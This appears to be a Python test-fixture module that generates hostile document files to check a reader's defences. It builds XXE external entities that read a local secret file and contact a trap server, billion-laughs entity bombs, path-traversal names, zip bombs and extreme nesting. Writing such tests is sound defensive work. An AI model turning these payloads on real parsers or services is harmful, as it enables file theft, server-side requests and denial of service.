"""Files made to harm whoever reads them: entities, zip files, nesting, claims; by name."""

import plistlib
import struct
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from functools import partial
from io import BytesIO
from zipfile import ZIP_STORED, ZipFile

from tests.formats.office import docx, odt
from tests.formats.samples import epub, page, zipped

HEAD = "<!doctype html><html><body>"
FICTION = '<FictionBook xmlns="http://www.gribuser.ru/xml/fictionbook/2.0"><body>'


@dataclass(frozen=True, slots=True)
class Trap:
    """Where what a hostile file asks for would be found: a server, and a file of the disk."""

    address: str
    secret: str


Made = Callable[[Trap], bytes]
"""Makes a file that steps into a trap if it is let; it says "words", too."""


Source = Callable[[], str]
"""What stands in a file, written when it is wanted: it may be large."""


def plain_of(source: Source) -> Made:
    """Make a file of characters."""
    return lambda _: source().encode()


def html_of(source: Source) -> Made:
    """Make a page."""
    return lambda _: (HEAD + source()).encode()


def _fb2_of(source: Source) -> Made:
    return lambda _: f"{FICTION}{source()}</body></FictionBook>".encode()


def _epub_of(source: Source) -> Made:
    return lambda _: epub({"a.xhtml": source()})


def _docx_of(source: Source) -> Made:
    return lambda _: docx(source())


def _odt_of(source: Source) -> Made:
    return lambda _: odt(source())


def _mhtml_of(source: Source) -> Made:
    head = "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\n"
    return lambda _: f"{head}Content-Type: text/html\n\n{HEAD}{source()}\n--b--\n".encode()


def _stored(made: Made) -> Made:
    """Make a zip file whose entries are not packed, so that their ratio says nothing."""

    def repacked(trap: Trap) -> bytes:
        with ZipFile(BytesIO(made(trap))) as file:
            entries = {info.filename: file.read(info) for info in file.infolist()}
        return zipped(entries, ZIP_STORED)

    return repacked


# --- entities ----------------------------------------------------------------------------------

_DOCX_WORDS = "<w:p><w:r><w:t>words {}</w:t></w:r></w:p>"
_ODT_WORDS = "<text:p>words {}</text:p>"


def _external(trap: Trap, root: str) -> tuple[str, str]:
    """Return a document type with files of the disk and the network, and what shows them."""
    return (
        f'<!DOCTYPE {root} SYSTEM "{trap.address}/a.dtd" [<!ENTITY a SYSTEM "{trap.secret}">'
        f'<!ENTITY b SYSTEM "{trap.address}/b"><!ENTITY % c SYSTEM "{trap.address}/c"> %c;]>',
        "&a;&b;",
    )


def _bomb(_: Trap, root: str) -> tuple[str, str]:
    """Return entities that stand for 10 to the ninth characters, one made of the other."""
    steps = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE {root} [<!ENTITY e0 "x">{steps}]>', "&e9;"


_Declared = Callable[[Trap, str], tuple[str, str]]


def _entities_in_epub(declared: _Declared, trap: Trap) -> bytes:
    kind, shown = declared(trap, "html")
    return epub({"a.xhtml": page(f"<p>words {shown}</p>").replace("<html", f"{kind}<html", 1)})


def _entities_in_office(
    declared: _Declared, trap: Trap, made: Callable[[str], bytes], words: str, part: str, root: str
) -> bytes:
    kind, shown = declared(trap, root)
    with ZipFile(BytesIO(made(words.format("SHOWN")))) as file:
        entries = {info.filename: file.read(info) for info in file.infolist()}
    entries[part] = kind.encode() + entries[part].replace(b"SHOWN", shown.encode())
    return zipped(entries)


def _entities_in_source(declared: _Declared, trap: Trap, root: str, source: str) -> bytes:
    kind, shown = declared(trap, root)
    return f"{kind}{source.format(shown)}".encode()


def _entities_in_archive(declared: _Declared, trap: Trap) -> bytes:
    kind, shown = declared(trap, "plist")
    page_of_it = {
        "WebResourceData": f"{HEAD}<p>words".encode(),
        "WebResourceURL": "ADDRESS",
        "WebResourceMIMEType": "text/html",
    }
    made = plistlib.dumps({"WebMainResource": page_of_it}, fmt=plistlib.FMT_XML)
    source = made[made.index(b"<plist") :].replace(b"ADDRESS", shown.encode())
    return b'<?xml version="1.0"?>' + kind.encode() + source


def _with_entities(name: str, declared: _Declared) -> dict[str, Made]:
    word = (docx, _DOCX_WORDS, "word/document.xml", "w:document")
    text = (odt, _ODT_WORDS, "content.xml", "office:document-content")
    return {
        f"{name}.epub": partial(_entities_in_epub, declared),
        f"{name}.docx": lambda trap: _entities_in_office(declared, trap, *word),
        f"{name}.odt": lambda trap: _entities_in_office(declared, trap, *text),
        f"{name}.fb2": lambda trap: _entities_in_source(
            declared, trap, "FictionBook", f"{FICTION}<p>words {{}}</p></body></FictionBook>"
        ),
        f"{name}.html": lambda trap: _entities_in_source(
            declared, trap, "html", "<html><body><p>words {}"
        ),
        f"{name}.webarchive": partial(_entities_in_archive, declared),
    }


# --- what a file asks for ----------------------------------------------------------------------


def _asking(trap: Trap) -> str:
    """Return elements that ask for files of the disk and of the network, in the ways of HTML."""
    places = (trap.secret, f"file://{trap.secret}", f"{trap.address}/x", f"../../..{trap.secret}")
    tags = (
        '<img src="{0}" srcset="{0} 2x"/><link rel="stylesheet" href="{0}"/><script src="{0}">'
        '</script><iframe src="{0}"></iframe><object data="{0}"></object><embed src="{0}"/>'
        '<video poster="{0}" src="{0}"></video><svg><image href="{0}"/><use href="{0}"/></svg>'
        '<base href="{0}"/><style>@import url("{0}");</style><p style="background:url({0})">words'
        '</p><meta http-equiv="refresh" content="0;url={0}"/><math href="{0}"><mi>x</mi></math>'
    )
    return "".join(tags.format(place) for place in places)


def _asking_epub(trap: Trap) -> bytes:
    """Return a book with names that lead out of it, in its zip file and in its package."""
    up = "../" * 12
    names = (f"{up}tmp/out.xhtml", "/tmp/out.xhtml", "C:\\out.xhtml", "..\\..\\out.xhtml")
    wanted = (f"{up[:-1]}{trap.secret}", trap.secret, f"file://{trap.secret}", "%2e%2e/%2e%2e/x")
    items = "".join(
        f'<item id="x{n}" href="{href}" media-type="application/xhtml+xml"/>'
        for n, href in enumerate(wanted)
    )
    others = {name: page("<p>out</p>") for name in names}
    return epub({"a.xhtml": f"<p>words{_asking(trap)}</p>"}, manifest=items, others=others)


def _asking_docx(trap: Trap) -> bytes:
    kinds = ("image", "hyperlink", "attachedTemplate", "subDocument", "footnotes", "styles")
    places = (f"{trap.address}/x", trap.secret)
    relations = {f"{kind}{n}": (kind, place) for kind in kinds for n, place in enumerate(places)}
    blip = '<w:drawing><a:blip r:link="image0" r:embed="image1"/></w:drawing>'
    field = f'<w:fldSimple w:instr="INCLUDETEXT &quot;{trap.secret}&quot;"/>'
    asking = f"<w:p><w:r>{blip}</w:r>{field}<w:subDoc r:id='subDocument1'/></w:p>"
    return docx(_DOCX_WORDS + asking, relations)


def _asking_odt(trap: Trap) -> bytes:
    places = (f"{trap.address}/x", trap.secret, f"..{trap.secret}")
    return odt(
        "".join(
            f'<text:p><draw:frame><draw:image xlink:href="{place}"/></draw:frame>words</text:p>'
            f'<text:section text:name="s"><text:section-source xlink:href="{place}"/>'
            "</text:section>"
            for place in places
        )
    )


ASKING: Mapping[str, Made] = {
    **_with_entities("external entity", _external),
    "path traversal.epub": _asking_epub,
    "path traversal.html": lambda trap: (HEAD + _asking(trap)).encode(),
    "path traversal.md": lambda trap: f"words\n\n{_asking(trap)}\n\n![a]({trap.secret})\n".encode(),
    "path traversal.docx": _asking_docx,
    "path traversal.odt": _asking_odt,
}
"""Files that ask for others, of the disk or of the network."""


# --- zip files ---------------------------------------------------------------------------------


def _by_size(_: Trap) -> bytes:
    """Return a book of 40 pages that say they are 16 million characters each."""
    made = bytearray(epub({f"{n}.xhtml": "<p>words</p>" for n in range(40)}))
    at = made.find(b"PK\x01\x02")
    while at >= 0:
        made[at + 24 : at + 28] = struct.pack("<I", 16_000_000)
        at = made.find(b"PK\x01\x02", at + 4)
    return bytes(made)


def _by_overlap(_: Trap) -> bytes:
    """Return a book whose list of files has one of them 5,000 times."""
    made = epub({"a.xhtml": "<p>words</p>"})
    end = made.rindex(b"PK\x05\x06")
    count, size, start = struct.unpack("<HII", made[end + 10 : end + 20])
    listed = made[start : start + size]
    many = listed + listed[listed.rindex(b"PK\x01\x02") :] * 5000
    head = struct.pack("<HHII", count + 5000, count + 5000, len(many), start)
    return made[:start] + many + made[end : end + 8] + head + b"\0\0"


ZIPS: Mapping[str, Made] = {
    "bomb by ratio.epub": _epub_of(lambda: f"<p>words{' ' * 30_000_000}</p>"),
    "bomb by ratio.docx": _docx_of(lambda: "<w:p/>" * 4_000_000),
    "bomb by ratio.odt": _odt_of(lambda: "<text:p/>" * 3_000_000),
    "bomb by ratio.fb2.zip": lambda _: zipped({"a.fb2": f"{FICTION}<p>words{' ' * 30_000_000}"}),
    "bomb by size.epub": _by_size,
    "bomb by one entry.docx": _docx_of(lambda: "0123456789abcdef" * 2_100_000),
    "bomb by overlap.epub": _by_overlap,
    "60,000 entries.epub": lambda _: epub(
        {"a.xhtml": "<p>words</p>"}, others={f"x{n}": "" for n in range(60_000)}
    ),
}
"""Zip files that unpack to too much; all of them are to be refused."""


# --- nesting -----------------------------------------------------------------------------------


def _nested(tag: str, count: int) -> Source:
    """Write words in so many elements, or pairs of elements."""
    closing = "".join(f"</{name.split()[0]}>" for name in reversed(tag.split("><")))
    return lambda: f"<{tag}>" * count + "words" + closing * count


_SPANS = _nested("text:span", 200_000)
_OPEN_TABLE = "table:table><table:table-row><table:table-cell"

DEEP: Mapping[str, Made] = {
    "200,000 elements.html": html_of(_nested("div", 200_000)),
    "200,000 list items.html": html_of(_nested("ul><li", 100_000)),
    "200,000 elements.epub": _stored(_epub_of(_nested("div", 200_000))),
    "200,000 elements.docx": _stored(_docx_of(_nested("w:sdt><w:sdtContent", 100_000))),
    "200,000 elements.odt": _stored(_odt_of(lambda: f"<text:p>{_SPANS()}</text:p>")),
    "200,000 elements.fb2": _fb2_of(_nested("section", 200_000)),
    "200,000 elements.mhtml": _mhtml_of(_nested("div", 200_000)),
    "3,000 tables.html": html_of(_nested("table><tr><td", 3000)),
    "3,000 tables.epub": _epub_of(_nested("table><tr><td", 3000)),
    "3,000 tables.docx": _docx_of(_nested("w:tbl><w:tr><w:tc", 3000)),
    "3,000 tables.odt": _odt_of(_nested(_OPEN_TABLE, 3000)),
}
"""Files nested deeper than is followed; all of them are to be refused."""


# --- claims ------------------------------------------------------------------------------------

_MANY = "99999999"
_ROWS = f"<tr><td colspan='{_MANY}' rowspan='{_MANY}'>a</td><td>words</td></tr>" * 20
_DOCX_CELL = "<w:tc><w:p><w:r><w:t>words</w:t></w:r></w:p></w:tc>"
_DOCX_WIDE = _DOCX_CELL.replace("<w:tc>", f"<w:tc><w:tcPr><w:gridSpan w:val='{_MANY}'/></w:tcPr>")
_ODT_WIDE = (
    f"<table:table-cell table:number-columns-spanned='{_MANY}' table:number-rows-spanned="
    f"'{_MANY}' table:number-columns-repeated='{_MANY}'><text:p>words</text:p></table:table-cell>"
)
_ODT_ROW = f"<table:table-row table:number-rows-repeated='{_MANY}'>{_ODT_WIDE}</table:table-row>"
_ODT_SPACES = "<text:p>words<text:s text:c='2000000000'/>x</text:p>"


def _long() -> str:
    return "a" * 20_000_000


CLAIMS: Mapping[str, Made] = {
    "colspan 99,999,999.html": html_of(lambda: f"<table>{_ROWS}</table>"),
    "colspan 99,999,999.epub": _epub_of(lambda: f"<table>{_ROWS}</table>"),
    "colspan 99,999,999.md": plain_of(lambda: f"<table>{_ROWS}</table>"),
    "colspan 99,999,999.docx": _docx_of(
        lambda: f"<w:tbl><w:tr>{_DOCX_WIDE}{_DOCX_CELL}</w:tr></w:tbl>"
    ),
    "colspan 99,999,999.odt": _odt_of(lambda: f"<table:table>{_ODT_ROW}</table:table>"),
    "2,000,000,000 spaces.odt": _odt_of(lambda: _ODT_SPACES * 9),
    "20 MB attribute.html": html_of(lambda: f"<p title='{_long()}' id='{_long()}'>words"),
    "20 MB attribute.epub": _stored(_epub_of(lambda: f"<p title='{_long()}'>words</p>")),
    "20 MB attribute.docx": _stored(_docx_of(lambda: f"<w:p w:x='{_long()}'/>{_DOCX_WORDS}")),
    "20 MB attribute.odt": _stored(
        _odt_of(lambda: f"<text:p text:style-name='{_long()}'>words</text:p>")
    ),
    "20 MB attribute.fb2": _fb2_of(lambda: f"<p id='{_long()}'>words</p>"),
}
"""Files that claim to be large where they are not; all of them are to be read."""

BOMBS: Mapping[str, Made] = _with_entities("entity bomb", _bomb)
"""Files whose entities unfold; all of them are to be read, without."""


# --- much of one thing -------------------------------------------------------------------------

_HTML_ROW = f"<tr>{'<td>words</td>' * 100}</tr>"
_DOCX_ROW = f"<w:tr>{_DOCX_CELL * 100}</w:tr>"
_ODT_CELL = "<table:table-cell><text:p>words</text:p></table:table-cell>"
_PLAIN_ODT_ROW = f"<table:table-row>{_ODT_CELL * 100}</table:table-row>"
_MD_ROW = f"|{'words|' * 100}\n"


def _attributes() -> str:
    return " ".join(f"a{n}='1'" for n in range(1_000_000))


LARGE: Mapping[str, Made] = {
    "300,000 cells.html": html_of(lambda: f"<table>{_HTML_ROW * 3000}</table>"),
    "300,000 cells.epub": _stored(_epub_of(lambda: f"<table>{_HTML_ROW * 3000}</table>")),
    "300,000 cells.md": plain_of(lambda: f"{_MD_ROW}|{'-|' * 100}\n{_MD_ROW * 3000}"),
    "300,000 cells.docx": _stored(_docx_of(lambda: f"<w:tbl>{_DOCX_ROW * 3000}</w:tbl>")),
    "300,000 cells.odt": _stored(
        _odt_of(lambda: f"<table:table>{_PLAIN_ODT_ROW * 3000}</table:table>")
    ),
    "a million attributes.html": html_of(lambda: f"<p {_attributes()}>words"),
    "a million attributes.epub": _stored(_epub_of(lambda: f"<p {_attributes()}>words</p>")),
    "20 MB name.html": html_of(lambda: f"<{_long()}>words"),
    "20 MB entity.html": html_of(lambda: f"<p>words &{_long()};"),
    "200,000 inline elements.html": html_of(_nested("b", 200_000)),
    "4,000 parts.mhtml": plain_of(
        lambda: (
            "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n"
            + "--b\nContent-Type: text/html\n\n<p>words\n" * 4000
        )
    ),
}
"""Files of very much of one thing; to be refused or read."""
